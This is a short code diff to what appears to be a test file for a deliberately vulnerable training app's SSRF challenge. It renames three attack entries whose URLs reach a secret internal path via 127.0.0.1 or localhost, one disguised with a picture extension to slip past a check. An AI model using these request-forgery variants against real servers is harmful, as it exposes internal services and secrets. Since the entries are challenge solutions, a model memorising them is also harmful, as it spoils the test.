@@ -11,17 +11,17 @@ export const attacks: Attack[] = [
   },
   {
     challenge: 'ssrfChallenge',
-    name: 'the same under another name',
+    name: 'the secret address under another host name',
     run: (tools) => link(tools, `http://127.0.0.1:3000/${SECRET}`),
   },
   {
     challenge: 'ssrfChallenge',
-    name: 'the same with the ending of a picture',
+    name: 'the secret address with the extension of a picture',
     run: (tools) => link(tools, `http://localhost:3000/${SECRET}&name=cat.png`),
   },
   {
     challenge: 'ssrfChallenge',
-    name: 'the same at the address that visitors use',
+    name: 'the secret address at the public host name',
     run: (tools) => link(tools, `http://localhost/${SECRET}`),
   },
 ]
